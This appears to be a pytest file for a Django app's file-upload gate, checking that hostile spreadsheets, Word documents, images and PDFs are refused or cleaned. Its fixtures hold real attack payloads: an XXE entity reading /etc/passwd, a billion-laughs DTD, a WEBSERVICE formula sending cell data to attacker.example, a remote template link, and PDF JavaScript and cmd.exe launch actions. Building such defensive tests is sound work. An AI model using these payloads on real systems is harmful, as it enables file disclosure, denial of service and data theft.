"""The upload gate (cchc/uploads.py) against the hostile files of issue 15:
each made here, each refused or made harmless, and what reviewers download
named by its content and never cached."""

import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook
from PIL import Image

from cchc import uploads
from cchc.uploads import EVIDENCE, INDICATOR_WORKBOOK, PNG, Purpose, UploadRefused, upload_check
from inspections import remediation
from inspections.choices import ReportFileKind
from inspections.models import ReportFile
from tests.conftest import pdf_document

XXE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData>'
    b"</worksheet>"
)
LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b']>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&lol9;</Types>'
)


def workbook_bytes(*, formula: bool = False) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(["Chỉ tiêu", "Số lượng"])
    sheet.append(["Thủ tục tiếp nhận", 12])
    if formula:
        sheet["B3"] = '=WEBSERVICE("http://attacker.example/?"&A2)'
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def replace_part(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            target.writestr(entry.filename, content if entry.filename == name else source.read(entry))
        if name not in source.namelist():
            target.writestr(name, content)
    return out.getvalue()


def png_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (20, 10), (10, 120, 200)).save(buffer, "PNG")
    return buffer.getvalue()


def upload(name: str, content: bytes):
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def refusal(file, purpose=EVIDENCE) -> str:
    with pytest.raises(UploadRefused) as caught:
        upload_check(file, purpose=purpose)
    return caught.value.messages[0]


class TestOfficeFiles:
    def test_an_xlsx_with_an_external_entity_is_refused(self):
        hostile = replace_part(workbook_bytes(), "xl/worksheets/sheet1.xml", XXE)
        message = refusal(upload("so-lieu.xlsx", hostile))
        assert message.startswith("Tệp “so-lieu.xlsx” bị từ chối: Tệp chứa khai báo XML không được phép")
        assert "xl/worksheets/sheet1.xml" in message

    def test_a_billion_laughs_dtd_is_refused_in_any_part(self):
        hostile = replace_part(workbook_bytes(), "[Content_Types].xml", LAUGHS)
        assert "DTD, thực thể" in refusal(upload("so-lieu.xlsx", hostile))
        # Wherever it stands, whatever the part is called: still XML.
        hidden = replace_part(workbook_bytes(), "xl/media/chart.bin", LAUGHS)
        assert "xl/media/chart.bin" in refusal(upload("so-lieu.xlsx", hidden))
        # An import is refused the same way.
        assert "DTD, thực thể" in refusal(upload("so-lieu.xlsx", hidden), INDICATOR_WORKBOOK)

    def test_an_xlsx_with_live_formulas_is_refused_as_evidence_but_read_by_an_import(self):
        live = workbook_bytes(formula=True)
        assert "bảng tính có công thức" in refusal(upload("minh-chung.xlsx", live))
        assert upload_check(upload("so-lieu.xlsx", live), purpose=INDICATOR_WORKBOOK).size == len(live)
        assert (
            upload_check(upload("minh-chung.xlsx", workbook_bytes()), purpose=EVIDENCE).name
            == "minh-chung.xlsx"
        )

    def test_an_xlsm_is_no_evidence(self):
        macro = replace_part(workbook_bytes(), "xl/vbaProject.bin", b"\x00" * 64)
        assert "không đúng định dạng cho phép" in refusal(upload("minh-chung.xlsx", macro))


class TestActiveOfficeParts:
    REMOTE_TEMPLATE = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    HYPERLINK = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="https://dichvucong.gov.vn/" TargetMode="External"/>'
        b"</Relationships>"
    )

    def test_a_docx_with_a_remote_template_is_refused(self, upload_files):
        hostile = replace_part(
            upload_files.docx_bytes(), "word/_rels/settings.xml.rels", self.REMOTE_TEMPLATE
        )
        assert "liên kết tới tệp hoặc dữ liệu bên ngoài" in refusal(upload("bao-cao.docx", hostile))

    def test_a_docx_with_a_hyperlink_is_kept(self, upload_files):
        linked = replace_part(upload_files.docx_bytes(), "word/_rels/document.xml.rels", self.HYPERLINK)
        assert upload_check(upload("bao-cao.docx", linked), purpose=EVIDENCE).data == linked

    def test_an_ole_object_is_refused(self):
        hostile = replace_part(
            workbook_bytes(), "xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 60
        )
        assert "đối tượng nhúng (OLE)" in refusal(upload("minh-chung.xlsx", hostile))


class TestImages:
    def test_a_script_appended_to_a_png_is_dropped(self):
        hostile = png_bytes() + b"<script>alert(document.cookie)</script>"
        checked = upload_check(upload("anh.png", hostile), purpose=EVIDENCE)
        assert b"<script>" not in checked.data
        with Image.open(io.BytesIO(checked.data)) as image:
            assert (image.size, image.getpixel((3, 3))) == ((20, 10), (10, 120, 200))

    def test_metadata_is_dropped(self):
        from PIL import PngImagePlugin

        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", "<script>alert(1)</script>")
        buffer = io.BytesIO()
        Image.new("RGB", (8, 8)).save(buffer, "PNG", pnginfo=info)
        checked = upload_check(upload("anh.png", buffer.getvalue()), purpose=EVIDENCE)
        assert b"alert" not in checked.data

    def test_an_image_too_large_in_pixels_is_refused_before_decoding(self, monkeypatch):
        monkeypatch.setattr(uploads, "IMAGE_MAX_PIXELS", 100)
        assert "Ảnh quá lớn (20 × 10 điểm ảnh)" in refusal(upload("anh.png", png_bytes()))

    def test_a_png_named_html_takes_the_png_extension(self):
        checked = upload_check(upload("C:\\Users\\x\\anh.html", png_bytes()), purpose=EVIDENCE)
        assert (checked.name, checked.content_type) == ("anh.png", PNG)


CATALOG = b"<</Type/Catalog/Pages 2 0 R"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"


class TestPdfs:
    @pytest.mark.parametrize(
        ("catalog_extra", "objects", "what"),
        [
            (b"/OpenAction 4 0 R", (b"<</S/JavaScript/JS(app.alert(1))>>",), "JavaScript"),
            # A name written with an escape is the same name once parsed.
            (b"/OpenAction 4 0 R", (b"<</S/J#61vaScript/JS 5 0 R>>", b"(app.alert(1))"), "JavaScript"),
            (b"/OpenAction<</S/Launch/F(cmd.exe)>>", (), "launch"),
            (
                b"/Names<</JavaScript 4 0 R>>",
                (b"<</Names[(a) 5 0 R]>>", b"<</S/JavaScript/JS(1)>>"),
                "JavaScript",
            ),
        ],
        ids=["open-action-js", "escaped-name", "launch", "names-tree"],
    )
    def test_active_content_is_refused(self, catalog_extra, objects, what):
        hostile = pdf_document((CATALOG + catalog_extra + b">>", PAGES, PAGE, *objects))
        assert refusal(upload("bao-cao.pdf", hostile)) == (
            f"Tệp “bao-cao.pdf” bị từ chối: Tệp PDF chứa {what} (mã chạy khi mở tệp): "
            "không nhận vì lý do an toàn."
        )

    def test_an_embedded_file_is_refused_unless_the_purpose_allows_it(self):
        hostile = pdf_document(
            (
                CATALOG + b"/Names<</EmbeddedFiles 4 0 R>>>>",
                PAGES,
                PAGE,
                b"<</Names[(x.exe) 5 0 R]>>",
                b"<</Type/Filespec/F(x.exe)/EF<</F 6 0 R>>>>",
                b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream",
            )
        )
        assert "tệp đính kèm bên trong" in refusal(upload("bao-cao.pdf", hostile))
        allowing = Purpose("test", (uploads.PDF,), embedded_files=True)
        assert upload_check(upload("bao-cao.pdf", hostile), purpose=allowing).sha256

    def test_a_pdf_that_does_not_parse_is_refused(self):
        assert "Tệp PDF bị hỏng" in refusal(upload("bao-cao.pdf", b"%PDF-1.7\n<html><script>x</script>"))

    def test_a_plain_pdf_passes_unchanged(self):
        plain = pdf_document((CATALOG + b">>", PAGES, PAGE))
        assert upload_check(upload("bao-cao.pdf", plain), purpose=EVIDENCE).data == plain


@pytest.fixture
def draft(remediation_case, officer_a):
    return remediation.report_open(inspection=remediation_case.inspection, user=officer_a)


class TestEvidence:
    """Issue 15's findings, through the service that keeps evidence."""

    @pytest.mark.parametrize(
        ("name", "content"),
        [
            ("xxe.xlsx", lambda: replace_part(workbook_bytes(), "xl/worksheets/sheet1.xml", XXE)),
            ("laughs.xlsx", lambda: replace_part(workbook_bytes(), "[Content_Types].xml", LAUGHS)),
            ("cong-thuc.xlsx", lambda: workbook_bytes(formula=True)),
        ],
        ids=["xxe", "billion-laughs", "formulas"],
    )
    def test_hostile_spreadsheets_are_not_kept(self, draft, officer_a, media_root, name, content):
        with pytest.raises(UploadRefused):
            remediation.report_file_add(
                report=draft,
                upload=upload(name, content()),
                kind=ReportFileKind.EVIDENCE,
                item=draft.items.first(),
                user=officer_a,
            )
        assert not ReportFile.objects.exists()
        assert [p for p in Path(media_root).rglob("*") if p.is_file()] == []

    def test_a_png_with_a_script_named_html_is_kept_clean_and_served_as_png(
        self, client, draft, officer_a, inspector
    ):
        hostile = png_bytes() + b"<script>alert(1)</script>"
        stored = remediation.report_file_add(
            report=draft,
            upload=upload("anh.html", hostile),
            kind=ReportFileKind.EVIDENCE,
            item=draft.items.first(),
            user=officer_a,
        )
        assert stored.original_name == "anh.png"
        assert b"<script>" not in Path(stored.file.path).read_bytes()

        client.force_login(officer_a)
        response = client.get(reverse("inspections:report_file", args=[stored.pk]))
        assert response.status_code == 200
        assert response["Content-Disposition"] == 'attachment; filename="anh.png"'
        assert response["Content-Type"] == "image/png"
        assert response["Cache-Control"] == "no-store"
        assert response["X-Content-Type-Options"] == "nosniff"
        assert b"<script>" not in b"".join(response.streaming_content)

    def test_a_file_kept_before_the_gate_is_served_with_its_type_extension(self, client, draft, officer_a):
        stored = remediation.report_file_add(
            report=draft,
            upload=upload("anh.png", png_bytes()),
            kind=ReportFileKind.EVIDENCE,
            item=draft.items.first(),
            user=officer_a,
        )
        ReportFile.objects.filter(pk=stored.pk).update(original_name="anh.html")
        client.force_login(officer_a)
        response = client.get(reverse("inspections:report_file", args=[stored.pk]))
        assert response["Content-Disposition"] == 'attachment; filename="anh.png"'
